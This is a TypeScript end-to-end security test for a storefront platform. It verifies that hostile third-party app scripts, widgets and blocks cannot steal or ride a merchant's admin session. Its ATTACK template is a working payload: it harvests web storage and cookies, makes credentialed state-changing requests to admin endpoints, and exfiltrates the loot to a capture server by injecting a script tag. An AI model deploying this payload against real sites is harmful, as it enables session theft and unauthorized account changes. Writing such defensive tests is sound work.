import t from 'tap'
import { build, listen, registerUser, REVIEWER_ENV } from '../helper.ts'
import { businessSlug, createPage, installApp, putBlocks, putEmbeds } from '../plugins/storefront/fixtures.ts'
import { createProduct } from '../plugins/commerce/fixtures.ts'
import { hostileServer, launch, logIn, screenshot } from './browser.ts'
import { until } from '../wait.ts'

/**
 * What a hostile app's code tries, wherever it runs (GLOBAL_SCRIPT in the storefront page, FLOATING_WIDGET
 * and block in their frames): read the merchant's session from every storage it can reach, then ride it
 * against state-changing admin endpoints, cookies included. `report` sends what it got home.
 */
const ATTACK = (who: string, admin: string, report: string) => `(async () => {
  const tryIt = async (f) => { try { return await f() } catch (e) { return 'blocked: ' + e.name } }
  const storage = (s) => { const out = {}; for (let i = 0; i < s.length; i++) out[s.key(i)] = s.getItem(s.key(i)); return out }
  const loot = { who: ${JSON.stringify(who)}, origin: location.origin }
  loot.localStorage = await tryIt(() => storage(localStorage))
  loot.sessionStorage = await tryIt(() => storage(sessionStorage))
  loot.cookie = await tryIt(() => document.cookie)
  loot.parentStorage = await tryIt(() => storage(window.parent.localStorage))
  loot.topStorage = await tryIt(() => storage(window.top.localStorage))
  const ride = async (method, path, body) => await tryIt(async () => {
    const response = await fetch(${JSON.stringify(admin)} + path, { method, credentials: 'include', headers: { 'content-type': 'application/json' }, body: body && JSON.stringify(body) })
    return response.status + ' ' + (await response.text()).slice(0, 200)
  })
  loot.readBusiness = await ride('GET', '/merchant/business')
  loot.renameBusiness = await ride('PATCH', '/merchant/business', { name: 'Owned by ' + ${JSON.stringify(who)} })
  loot.addProduct = await ride('POST', '/merchant/products', { name: 'Planted', price: 1 })
  loot.logout = await ride('POST', '/auth/logout')
  loot.relativeApi = await tryIt(async () => (await fetch('/merchant/business', { credentials: 'include' })).status)
  loot.adminFrame = await tryIt(() => new Promise((resolve) => {
    const frame = document.createElement('iframe')
    frame.src = ${JSON.stringify(admin)} + '/admin'
    frame.onload = () => { try { resolve(storage(frame.contentWindow.localStorage)) } catch (e) { resolve('blocked: ' + e.name) } }
    setTimeout(() => resolve('blocked: no load'), 1500)
    document.body.appendChild(frame)
  }))
  // a script tag: the one channel the storefront's CSP leaves an embed (its own script origin)
  const send = document.createElement('script')
  send.src = ${JSON.stringify(report)} + '?loot=' + encodeURIComponent(JSON.stringify(loot))
  document.head.appendChild(send)
})()`

t.test('a hostile app cannot read or ride the merchant session from the storefront', async (t) => {
  const app = await build(t, { env: REVIEWER_ENV })
  const base = await listen(app)

  const captures: any[] = []
  const page = (who: string) => `<!doctype html><body style="font-family:system-ui;background:#fee;margin:0;padding:8px">${who} (hostile)<script src="/attack.js?who=${who}"></script></body>`
  const hostileOrigin = await hostileServer(t, (url, origin) => {
    if (url.pathname === '/capture') {
      captures.push(JSON.parse(url.searchParams.get('loot') ?? '{}'))
      return { type: 'text/javascript', body: '' }
    }
    if (url.pathname === '/embed.js' || url.pathname === '/attack.js') return { type: 'text/javascript', body: ATTACK(url.searchParams.get('who') ?? 'embed', base, `${origin}/capture`) }
    if (url.pathname === '/widget' || url.pathname === '/block') return { type: 'text/html', body: page(url.pathname.slice(1)) }
    return null
  })

  // An approved app with the three kinds of storefront code; the merchant enables and places them.
  const merchant = await registerUser(app, 'MERCHANT', { businessName: 'Target Shop' })
  const slug = await businessSlug(app, merchant)
  const storefront = app.origins.storefrontOrigin(slug)
  t.not(new URL(base).origin, new URL(storefront).origin, 'two origins')
  const shop = await installApp(app, merchant, {
    embeds: [
      { embedType: 'tag', name: 'Tag', kind: 'GLOBAL_SCRIPT', position: 'body_end', scriptUrl: `${hostileOrigin}/embed.js` },
      { embedType: 'chat', name: 'Chat', kind: 'FLOATING_WIDGET', position: 'bottom_right', renderUrl: `${hostileOrigin}/widget` }
    ],
    blocks: [{ blockType: 'promo', name: 'Promo', renderUrl: `${hostileOrigin}/block` }]
  })
  await createPage(app, merchant, 'home', 'Home')
  await createProduct(app, merchant, { name: 'Bread', price: 400 })

  const browser = await launch(t)
  const context = await browser.newContext({ viewport: { width: 1100, height: 800 } })
  const admin = await context.newPage()
  const adminErrors: string[] = []
  admin.on('console', (message) => { if (message.type() === 'error') adminErrors.push(message.text()) })
  await admin.goto(`${base}/admin`)
  await admin.waitForURL(/\/login/)
  await logIn(admin, merchant.email, 'correct-horse')
  await admin.getByRole('link', { name: 'View store ↗' }).waitFor()
  const stored = await admin.evaluate(() => localStorage.getItem('app-platform.session'))
  const token = JSON.parse(stored ?? '{}').token as string
  t.ok(token.length > 20, 'the session lives in the admin origin’s storage')
  const auth = { authorization: `Bearer ${token}` }
  t.equal((await putEmbeds(app, { ...merchant, auth }, shop.installed.installationId, { tag: { enabled: true }, chat: { enabled: true } })).statusCode, 200, 'the merchant enables the embeds')
  t.equal((await putBlocks(app, { ...merchant, auth }, 'home', [{ id: 'promo-1', installationId: shop.installed.installationId, blockType: 'promo' }])).statusCode, 200)
  const before = {
    business: (await app.inject({ url: '/merchant/business', headers: auth })).json(),
    products: (await app.inject({ url: '/merchant/products', headers: auth })).json().total
  }
  await screenshot(admin, 'trust-admin')

  // The merchant, still signed in, opens their store from the admin.
  const [store] = await Promise.all([context.waitForEvent('page'), admin.getByRole('link', { name: 'View store ↗' }).click()])
  await store.waitForLoadState()
  t.equal(new URL(store.url()).origin, new URL(storefront).origin, '"View store" opens the storefront origin')
  // each hostile script reports once it has tried everything; the file's timeout bounds a report that never comes
  await until(async () => captures.length, (n) => n >= 3)
  await screenshot(store, 'trust-storefront')
  t.same(captures.map((c) => c.who).sort(), ['block', 'embed', 'widget'], 'all three hostile scripts ran and reported')

  const leaked = JSON.stringify(captures)
  t.notMatch(leaked, token, 'the session JWT is in no capture')
  t.notMatch(leaked, token.split('.')[1], 'not even its claims')
  for (const loot of captures) {
    t.test(`what the ${loot.who} captured`, async (t) => {
      // a third-party frame's own storage is empty, or (Chromium ≥ 156 in a fresh context, for some frames) refused outright
      const emptyOrBlocked = (value: unknown) => value === 'blocked: SecurityError' || (typeof value === 'object' && value !== null && Object.keys(value).length === 0)
      t.ok(emptyOrBlocked(loot.localStorage), `its own localStorage: ${JSON.stringify(loot.localStorage)}`)
      t.ok(emptyOrBlocked(loot.sessionStorage), `sessionStorage: ${JSON.stringify(loot.sessionStorage)}`)
      t.equal(loot.cookie, '', 'no cookie')
      for (const key of ['parentStorage', 'topStorage']) t.ok(emptyOrBlocked(loot[key]), `${key}: ${JSON.stringify(loot[key])}`)
      for (const key of ['readBusiness', 'renameBusiness', 'addProduct', 'logout']) {
        t.ok(/^blocked|^401 /.test(String(loot[key])), `${key} refused: ${String(loot[key]).slice(0, 60)}`)
      }
      t.ok(loot.relativeApi === 404 || String(loot.relativeApi).startsWith('blocked'), `the API on its own origin: ${loot.relativeApi}`)
      t.match(String(loot.adminFrame), /^blocked/, 'the admin cannot be framed and read')
    })
  }
  t.equal(captures.find((c) => c.who === 'embed').origin, new URL(storefront).origin, 'the GLOBAL_SCRIPT ran on the storefront origin, not the admin’s')

  // What changed on the server: nothing.
  t.same((await app.inject({ url: '/merchant/business', headers: auth })).json(), before.business, 'business unchanged')
  t.equal((await app.inject({ url: '/merchant/products', headers: auth })).json().total, before.products, 'no product planted')
  t.equal((await app.inject({ url: '/auth/me', headers: auth })).statusCode, 200, 'the session was not signed out')
  await admin.reload()
  await admin.getByRole('link', { name: 'View store ↗' }).waitFor()
  t.match(admin.url(), /\/admin$/, 'the merchant is still signed in')

  // The old door is shut: the store on the admin origin sends the browser away before any embed runs.
  const count = captures.length
  const redirected = await context.newPage()
  await redirected.goto(`${base}/store/${slug}`)
  t.equal(new URL(redirected.url()).origin, new URL(storefront).origin, '/store on the admin origin lands on the storefront origin')
  t.equal(captures.filter((c, i) => i >= count && c.origin === new URL(base).origin).length, 0, 'no hostile code ever ran on the admin origin')

  // Signed out elsewhere (or expired): the SPA returns to the login screen and says why.
  t.equal((await app.inject({ method: 'POST', url: '/auth/logout', headers: auth })).statusCode, 204)
  await admin.setViewportSize({ width: 390, height: 800 })
  await admin.goto(`${base}/admin`)
  await admin.getByTestId('session-expired').waitFor()
  t.match(admin.url(), /\/login\?next=%2Fadmin/)
  t.equal(await admin.getByTestId('session-expired').innerText(), 'Your session expired. Log in again to continue.')
  t.equal(await admin.evaluate(() => localStorage.getItem('app-platform.session')), null, 'the revoked token is forgotten')
  await screenshot(admin, 'trust-session-expired-390')
  await logIn(admin, merchant.email, 'correct-horse')
  // at 390 px the admin navigation sits behind its Menu button
  await admin.getByRole('button', { name: 'Menu' }).click()
  await admin.getByRole('link', { name: 'View store ↗' }).waitFor()
  t.equal(await admin.getByTestId('session-expired').count(), 0, 'signed in again')
  t.same(adminErrors.filter((e) => /Content Security Policy/i.test(e)), [], 'the admin’s own CSP blocks nothing the SPA needs')
})
